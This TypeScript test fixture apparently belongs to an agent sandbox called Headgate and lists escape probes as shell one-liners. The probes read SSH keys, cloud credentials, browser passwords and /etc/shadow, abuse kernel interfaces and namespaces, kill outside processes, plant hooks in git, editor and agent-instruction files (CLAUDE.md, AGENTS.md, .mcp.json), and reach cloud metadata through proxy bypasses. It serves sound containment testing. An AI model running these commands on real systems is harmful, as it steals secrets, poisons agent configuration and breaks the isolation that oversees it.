/** A way out of the sandbox. It works if the canary is printed, `ESCAPED` is, or something outside has changed. */
export interface EscapeRow {
  name: string;
  category: 'files' | 'processes' | 'kernel' | 'sockets' | 'protected paths' | 'network';
  /** For bash, in the folder `work`. The arena sets its variables. */
  command: string;
}

/** Prints `ESCAPED` if this system call (of x86_64) succeeds. */
const call = (number: number, args: string): string =>
  `perl -e '$b = "\\0" x 256; print "ESCAPED" if syscall(${number}, ${args}) >= 0'`;
const rows = (category: EscapeRow['category'], commands: Record<string, string>): EscapeRow[] =>
  Object.entries(commands).map(([name, command]) => ({ name, category, command }));

/** Connects to a Unix socket and says its name. */
const say = (name: string, way: string): string =>
  `perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) or die; connect(S, pack_sockaddr_un(${way})) or die "$!"; syswrite(S, "${name}\\n")'`;
const tunnel = (target: string): string =>
  `(exec 3<>"/dev/tcp/127.0.0.1/39128" && printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\nGET /${'$'}NAME HTTP/1.0\\r\\n\\r\\n' "${target}" >&3 && timeout 2 cat <&3)`;

/** Every way, tried in the default tier. */
export const ESCAPES: readonly EscapeRow[] = [
  ...rows('files', {
    'a private key': 'cat ~/.ssh/id_ed25519',
    'cloud credentials (aws)': 'cat ~/.aws/credentials',
    'cloud credentials (gcloud)': 'cat ~/.config/gcloud/credentials.db',
    'a cluster’s credentials': 'cat ~/.kube/config',
    'passwords of a browser': 'cat ~/.mozilla/firefox/me/logins.json',
    'cookies of a browser': 'cat ~/.config/google-chrome/Default/Cookies',
    'the history of the shell': 'cat ~/.bash_history',
    'a registry’s token': 'cat ~/.npmrc ~/.docker/config.json',
    'passwords of hosts': 'cat ~/.netrc ~/.git-credentials',
    'keys of GnuPG': 'cat ~/.gnupg/private-keys-v1.d/key',
    'Headgate’s own token': 'cat "$HEADGATE_HOME_OF_TEST/token"',
    'password hashes of the system': 'grep -q "^root:" /etc/shadow && echo ESCAPED',
    'the root of a process': 'cat "/proc/self/root$HOME/.ssh/id_ed25519"',
    'the root of the first process': 'cat "/proc/1/root$HOME/.ssh/id_ed25519"',
    'a relative way up': 'cat "$(realpath --relative-to=. ~)/.ssh/id_ed25519"',
    'descriptors as folders':
      'for at in /proc/*/fd/*; do cat "$at/.ssh/id_ed25519" "$at/../people/ada/.ssh/id_ed25519"; done',
    'a search of the whole disk': 'find / -xdev -name id_ed25519 -path "*ada*" -exec cat {} +',
    'a link': 'ln -s ~/.ssh/id_ed25519 key; cat key',
    'a hard link': 'ln ~/.ssh/id_ed25519 hard; cat hard',
    'the dynamic loader': '/lib64/ld-linux-x86-64.so.2 /bin/cat ~/.ssh/id_ed25519',
    'unmounting what hides': 'umount ~ || umount -l ~; cat ~/.ssh/id_ed25519',
    'a bind mount of the root': 'mkdir -p m; mount --bind / m; cat "m$HOME/.ssh/id_ed25519"',
    'a new root': `perl -e 'chroot "/proc/1/root" and exec "/bin/cat", "$ENV{HOME}/.ssh/id_ed25519"'`,
    'a file handle': call(304, '-100, $b, 0'),
    'writing beside the root folder': 'echo x > ../beside && echo ESCAPED',
    'writing to the system': 'echo x > /etc/headgate-escape && echo ESCAPED; rm -f /etc/headgate-escape',
    'writing to the home of the user': 'echo x >> ~/.bashrc; echo x > ~/.ssh/authorized_keys',
  }),
  ...rows('processes', {
    'the environment of other processes': 'cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep CANARY',
    'the environment that was passed on': 'env | grep CANARY',
    'killing a process outside': 'kill -9 "$VICTIM"',
    'killing everything': '(trap "" TERM; kill -TERM -1)',
    'tracing a process outside': call(101, '16, $ENV{VICTIM}, 0, 0'),
    'reading the memory of a process outside': `perl -e 'open F, "/proc/$ENV{VICTIM}/mem" and print "ESCAPED"'`,
    'descriptors left open': `for at in /proc/self/fd/*; do [ "\${at##*/}" -gt 2 ] && readlink "$at"; done | grep -vE "^(/dev/null|pipe:|/proc/)" | grep -q . && echo ESCAPED`,
    'outliving the command': '(setsid sleep "$NAP" > /dev/null 2>&1 &)',
    capabilities: 'grep -q "^CapEff:.*0000000000000000$" /proc/self/status || echo ESCAPED',
    'programs that raise rights': 'grep -q "^NoNewPrivs:.*1$" /proc/self/status || echo ESCAPED',
  }),
  ...rows('kernel', {
    io_uring: call(425, '8, $b'),
    'adding a key': call(248, '"user", "headgate-escape", "x", 1, -3'),
    'reading the session keyring': call(250, '0, -3, 0'),
    BPF: call(321, '0, $b, 128'),
    'performance counters': call(298, '$b, 0, -1, -1, 0'),
    userfaultfd: call(323, '0'),
    'a user namespace': 'unshare -U true && echo ESCAPED',
    'a mount namespace': 'unshare -rm bash -c "umount -l ~; cat ~/.ssh/id_ed25519" || unshare -m true && echo ESCAPED',
    'a process namespace': 'unshare -rmpf bash -c "mkdir -p p; mount -t proc p p; cat p/1/environ" && echo ESCAPED',
    'clone with a namespace': call(56, '0x10000000 | 17, 0, 0, 0, 0'),
    'joining a namespace': 'nsenter -t 1 -m -n true && echo ESCAPED',
    'a new mount': 'mkdir -p n; mount -t tmpfs n n && echo ESCAPED',
    'the newer calls for mounts': call(428, '-100, "/", 1'),
    'a kernel module': call(175, '$b, 16, ""'),
    'the program for core dumps': 'echo "|/bin/true" > /proc/sys/kernel/core_pattern && echo ESCAPED',
    'the program that loads modules': 'echo /bin/true > /proc/sys/kernel/modprobe && echo ESCAPED',
    'the system request key': 'echo h > /proc/sysrq-trigger && echo ESCAPED',
    'the helper for devices': 'echo /bin/true > /sys/kernel/uevent_helper && echo ESCAPED',
    'the release agent of a control group':
      'for at in /sys/fs/cgroup/*/; do echo /bin/true > "$at/release_agent" && echo ESCAPED; done',
    'leaving the control group':
      'for at in /sys/fs/cgroup/*/ /sys/fs/cgroup/; do echo $$ > "$at/cgroup.procs" && echo ESCAPED; done',
    'physical memory': '(head -c 16 /dev/mem || head -c 16 /dev/kmem) > memory && [ -s memory ] && echo ESCAPED',
    'memory of the kernel': 'head -c 16 /proc/kcore > core && [ -s core ] && echo ESCAPED',
    'a disk as a device': 'mknod disk b 254 0 && head -c 1 disk > byte && [ -s byte ] && echo ESCAPED',
    'the input of a terminal': `python3 -c 'import fcntl, pty, os; a, b = pty.openpty(); fcntl.ioctl(b, 0x5412, b"x"); print("ESCAPED")'`,
  }),
  ...rows('sockets', {
    'a socket like Docker’s': say('docker', '"$ENV{SOCKET}"'),
    'a socket in the folder': say('inside', '"agent.sock"'),
    'an abstract socket': say('abstract', '"\\\\0$ENV{ABSTRACT}"').replaceAll('\\\\0', '\\0'),
    'a datagram from one end of a pair': `perl -MSocket -e 'socketpair(P, Q, AF_UNIX, SOCK_DGRAM, 0) or die; print "ESCAPED"'`,
    'the agent for ssh keys': '[ -n "$SSH_AUTH_SOCK" ] && echo ESCAPED',
    'the session bus': '[ -S /run/user/$(id -u)/bus ] || [ -S /run/dbus/system_bus_socket ] && echo ESCAPED',
    'the display': '[ -e /tmp/.X11-unix ] || [ -n "$DISPLAY$WAYLAND_DISPLAY" ] && echo ESCAPED',
    'the host of a virtual machine': `perl -e 'socket(S, 40, 1, 0) and print "ESCAPED"'`,
    'packets of the network card': `perl -e 'socket(S, 17, 3, 0) and print "ESCAPED"'`,
    'raw packets': `perl -e 'socket(S, 2, 3, 1) and print "ESCAPED"'`,
    'the kernel’s ciphers': `perl -e 'socket(S, 38, 5, 0) and print "ESCAPED"'`,
  }),
  ...rows('protected paths', {
    'a hook where no repository is': 'cd ../bare; mkdir -p .git/hooks; echo evil > .git/hooks/post-commit',
    'a whole repository where none is': 'cd ../bare; git init -q . ; git config core.fsmonitor evil',
    'a hook of a repository': 'echo evil > .git/hooks/post-commit',
    'the settings of a repository': 'git config core.fsmonitor evil; echo evil >> .git/config',
    'another folder for the settings of a repository': 'echo ../evil > .git/commondir',
    'settings of a working tree': 'echo evil > .git/config.worktree',
    'another repository in its place': 'mv .git git; mkdir -p .git/hooks; echo evil > .git/hooks/post-commit',
    'a folder renamed to hooks': 'mkdir h; echo evil > h/post-commit; rm -rf .git/hooks; mv -T h .git/hooks',
    'settings of an editor': 'mkdir -p .vscode; echo evil > .vscode/settings.json',
    'a link as settings of an editor': 'mkdir -p other; echo evil > other/settings.json; ln -sT other .vscode',
    'a folder renamed to settings': 'mkdir s; echo evil > s/settings.json; mv -T s .vscode',
    'variables for a folder': 'echo evil > .envrc',
    'instructions for agents': 'echo evil > CLAUDE.md; cp CLAUDE.md AGENTS.md',
    'changed instructions for agents': 'echo evil >> AGENTS.md; sed -i s/^/evil/ AGENTS.md',
    'tool servers for agents': 'echo evil > .mcp.json; mkdir -p .claude; echo evil > .claude/settings.json',
    'skills for the agent':
      'for p in .headgate/skills/x .agents/skills/x .claude/skills/x; do mkdir -p $p; echo evil > $p/SKILL.md; done',
    'commands for the agent': 'mkdir -p .headgate/commands; echo evil > .headgate/commands/x.md',
    'start files of shells': 'echo evil > .bashrc; echo evil > .zshenv; echo evil > .profile',
    'settings of the package manager': 'echo script-shell=evil > .npmrc',
    'a program among those of packages': 'mkdir -p node_modules/.bin; echo evil > node_modules/.bin/tsc',
    'other packages in their place': 'mv node_modules n; mkdir -p node_modules/.bin; echo evil > node_modules/.bin/tsc',
    'a hard link to the settings': 'ln .git/config c; echo evil >> c',
    'the same path through /proc':
      'echo evil > "/proc/self/root$PWD/.git/hooks/post-commit"; echo evil > /proc/self/cwd/.git/hooks/x',
    'remounting it writable': 'mount -o remount,rw,bind .git/hooks; echo evil > .git/hooks/post-commit',
  }),
  ...rows('network', {
    'the daemon’s port': '(exec 3<>/dev/tcp/127.0.0.1/$PORT && echo "GET /direct" >&3)',
    'the port by the machine’s address': '(exec 3<>/dev/tcp/$OWN_ADDRESS/$PORT && echo "GET /address" >&3)',
    'a host by its address': '(exec 3<>/dev/tcp/93.184.216.34/80 && echo ESCAPED)',
    'a name server': `perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); send(S, "canary", 0, pack_sockaddr_in(53, inet_aton("8.8.8.8"))) and print "ESCAPED"'`,
    'a datagram to this machine': `perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); send(S, "datagram", 0, pack_sockaddr_in($ENV{PORT}, inet_aton("127.0.0.1")))'`,
    'metadata of the cloud, directly': '(exec 3<>/dev/tcp/169.254.169.254/80 && echo ESCAPED)',
    'metadata of the cloud, by the proxy': `${tunnel('169.254.169.254:80')} | grep " 200 " && echo ESCAPED`,
    'the daemon’s port, by the proxy': tunnel('127.0.0.1:$PORT'),
    'the port by another spelling': `${tunnel('127.1:$PORT')}; ${tunnel('2130706433:$PORT')}; ${tunnel('0x7f000001:$PORT')}`,
    'the port as a mapped address': `${tunnel('[::ffff:127.0.0.1]:$PORT')}; ${tunnel('[::1]:$PORT')}`,
    'the port by name': `${tunnel('localhost:$PORT')}; ${tunnel('localhost.:$PORT')}`,
    'the port by the machine’s address, by the proxy': tunnel('$OWN_ADDRESS:$PORT'),
    'a user before the host': tunnel('allowed.test@127.0.0.1:$PORT'),
    'an allowed name that leads to a private address': tunnel('private.allowed.test:$PORT'),
    'an allowed name with an address of each kind': tunnel('mixed.allowed.test:$PORT'),
    'another name in the Host header': `(exec 3<>/dev/tcp/127.0.0.1/39128 && printf 'GET http://private.allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' $PORT >&3 && timeout 2 cat <&3)`,
    'a host that is not allowed': `${tunnel('example.com:443')} | grep " 200 " && echo ESCAPED`,
    'a request to a host that is not allowed':
      'curl -s -m 3 -o page http://example.com/ && grep -qi "example domain" page && echo ESCAPED',
  }),
];
